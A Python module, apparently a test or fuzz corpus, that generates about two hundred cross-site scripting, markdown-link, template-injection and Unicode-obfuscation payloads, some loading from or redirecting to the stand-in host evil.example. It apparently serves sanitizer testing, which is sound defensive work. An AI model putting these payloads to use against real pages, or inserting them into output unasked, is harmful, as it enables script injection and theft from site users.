"""Two hundred contents that try to be more than text."""

from itertools import product

# What runs, or asks for something, if it gets through as markup.
PAYLOADS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<iframe src=javascript:{js}></iframe>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}>",
    "<a href=javascript:{js}>x</a>",
    "<math><mtext></mtext><script>{js}</script></math>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>{js}</script></template>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={js}>'></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<image href=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<select onfocus={js} autofocus>",
    "<textarea autofocus onfocus={js}>",
    "<keygen autofocus onfocus={js}>",
    "<audio src=x onerror={js}>",
    "<track onerror={js}>",
    "<isindex action=javascript:{js}>",
    "<table background=//evil.example/x.png>",
    "<div style=background:url(//evil.example/x.png)>",
    "<bgsound src=//evil.example/x>",
)

# How it breaks out of where it stands.
FRAMES = ("{0}", "\"'>{0}", "</textarea>{0}", "</title></style></script>{0}", "--><!--{0}-->")

OTHERS = (
    "[x](javascript:steal())",
    "![x](//evil.example/x.png)",
    "[x]: //evil.example",
    "<//evil.example>",
    "[[x|<img src=x onerror=steal()>]]",
    "`<img src=x onerror=steal()>`",
    "```html\n<script>steal()</script>\n```",
    "# <script>steal()</script>",
    "{{ 1733*71 }}",
    "{{ config }}",
    "{% raw %}{{ steal }}{% endraw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${1733*71}",
    "#{1733*71}",
    "<%= 1733*71 %>",
    "{{constructor.constructor('steal()')()}}",
    "\u202e<script>steal()</script>",
    "\u2066javascript:steal()\u2069",
    "java\u200bscript:steal()",
    "\u200d\u200c\ufeff<script>steal()</script>",
    "\U000e0073\U000e0063\U000e0072ipt",
    "＜script＞steal()＜/script＞",
    "\x00<script>steal()</script>",
    "<scr\x00ipt>steal()</scr\x00ipt>",
    "<script\x0c>steal()</script>",
    "\x1b]8;;//evil.example\x07x",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;script&#62;steal()&#60;/script&#62;",
    "%3Cscript%3Esteal()%3C/script%3E",
    "\\u003cscript\\u003esteal()\\u003c/script\\u003e",
)


def corpus() -> list[str]:
    """Return all of them, each different."""
    made = [
        frame.format(payload.format(js=f"steal({at})")) for at, (payload, frame) in enumerate(product(PAYLOADS, FRAMES))
    ]
    return [*made, *OTHERS]
